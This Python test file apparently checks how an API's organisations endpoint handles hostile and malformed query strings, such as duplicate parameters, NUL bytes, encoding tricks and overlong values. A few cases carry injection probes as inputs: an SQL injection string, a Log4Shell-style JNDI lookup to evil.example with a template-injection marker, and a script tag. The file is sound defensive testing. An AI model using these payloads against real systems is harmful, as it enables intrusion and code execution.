"""Queries that are ambiguous, that something is hidden in, or that are too long."""

from app.domain.organisations import Kind
from tests.api.hostile.cases import (
    ACTUALS,
    NOT_HTTP,
    NOTHING_FOUND,
    get,
    hostile,
    unknown,
    untyped,
    wrong,
)

_KINDS = tuple(Kind)

_LISTED = "/v1/organisations?"

CASES = (
    hostile(
        "a parameter twice: the last counts",
        get(_LISTED + "text=England&text=nowhere"),
        NOTHING_FOUND,
    ),
    hostile(
        "a parameter twice, one of them wrong",
        get(_LISTED + "kind=nobody&kind=trust&text=nowhere"),
        NOTHING_FOUND,
    ),
    hostile(
        "brackets: another parameter", get(_LISTED + "kind[]=nobody&text=nowhere"), NOTHING_FOUND
    ),
    hostile("encoded brackets", get(_LISTED + "kind%5B0%5D=nobody&text=nowhere"), NOTHING_FOUND),
    hostile("a name in capitals", get(_LISTED + "KIND=nobody&text=nowhere"), NOTHING_FOUND),
    hostile(
        "a parameter that is none", get(_LISTED + "role=national&text=nowhere"), NOTHING_FOUND
    ),
    hostile(
        "an encoded ampersand",
        get(_LISTED + "kind=trust%26text%3Dnowhere"),
        unknown("?kind", "trust&text=nowhere", *_KINDS),
    ),
    hostile(
        "an encoded name", get(_LISTED + "%6Bind=nobody"), unknown("?kind", "nobody", *_KINDS)
    ),
    hostile(
        "a semicolon",
        get(_LISTED + "limit=1;text=nowhere"),
        wrong(
            "?limit",
            "not_a_whole_number",
            '"1;text=nowhere" is not a whole number; send one without quotes or decimals.',
        ),
    ),
    hostile("an empty value", get(_LISTED + "kind="), unknown("?kind", "", *_KINDS)),
    hostile(
        "an empty text",
        get(_LISTED + "text="),
        wrong("?text", "string_too_short", '"": String should have at least 1 character.'),
    ),
    hostile(
        "no value",
        get(_LISTED + "limit"),
        wrong(
            "?limit",
            "not_a_whole_number",
            '"" is not a whole number; send one without quotes or decimals.',
        ),
    ),
    hostile("nothing but marks", get(_LISTED + "&&=&%&text=nowhere"), NOTHING_FOUND),
    hostile("a NUL", get(_LISTED + "text=%00"), NOTHING_FOUND),
    hostile(
        "a NUL behind a word",
        get(_LISTED + "kind=trust%00"),
        unknown("?kind", "trust\x00", *_KINDS),
    ),
    hostile("no UTF-8", get(_LISTED + "text=%ff%fe"), NOTHING_FOUND),
    hostile("bytes as they are", get(_LISTED + "text=\u00e9"), NOT_HTTP),
    hostile("a wildcard", get(_LISTED + "text=%25"), NOTHING_FOUND),
    hostile("a wildcard for one", get(_LISTED + "text=_"), NOTHING_FOUND),
    hostile("a statement", get(_LISTED + "text=%27%20OR%201=1--"), NOTHING_FOUND),
    hostile(
        "a template", get(_LISTED + "text=${jndi:ldap://evil.example/a}{{7*7}}"), NOTHING_FOUND
    ),
    hostile("a script", get(_LISTED + "kind=<script>"), unknown("?kind", "<script>", *_KINDS)),
    hostile(
        "101 characters",
        get(_LISTED + "text=" + "x" * 101),
        wrong(
            "?text",
            "string_too_long",
            '"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\u2026: '
            "String should have at most 100 characters.",
        ),
    ),
    hostile(
        "9,000 characters",
        get(_LISTED + "text=" + "x" * 9_000),
        untyped(414, "URI too long", "The query may have up to 8192 bytes."),
    ),
    hostile(
        "101 parameters",
        get(_LISTED + "&".join(["text=a"] * 101)),
        wrong("", "too_many_parameters", "The query has 101 parameters; send at most 100."),
    ),
    hostile(
        "a list in one value",
        get("/v1/trusts/RZ1/progress?measure=band_8a,band_8b", by="national"),
        unknown(
            "?measure",
            "band_8a,band_8b",
            "workforce",
            "leadership",
            "senior_leadership",
            "band_8a",
            "band_8b",
            "band_8c",
            "band_8d",
            "band_9",
            "vsm",
            "consultants",
            "board",
            "board_voting",
            "board_executive",
        ),
    ),
    hostile(
        "90 measures",
        get("/v1/trusts/RZ1/progress?" + "&".join(["measure=vsm"] * 90), by="national"),
        wrong(
            "?measure",
            "too_long",
            '["vsm", "vsm", "vsm", "vsm", "vsm", "vsm", "vsm", "vsm", "v\u2026: '
            "List should have at most 13 items after validation, not 90.",
        ),
    ),
    hostile(
        "a plus that is a space",
        get(f"{ACTUALS}?as_of=2026-11-23T09:00:00+00:00", by="national"),
        wrong(
            "?as_of",
            "datetime_from_date_parsing",
            '"2026-11-23T09:00:00 00:00": Input should be a valid datetime or '
            "date, unexpected extra characters at the end of the input.",
        ),
    ),
    hostile(
        "an instant for a day",
        get(_LISTED + "open_on=2026-03-31T00:00:00"),
        wrong(
            "?open_on", "value_error", '"2026-03-31T00:00:00": must be a day, such as 2026-03-31.'
        ),
    ),
)
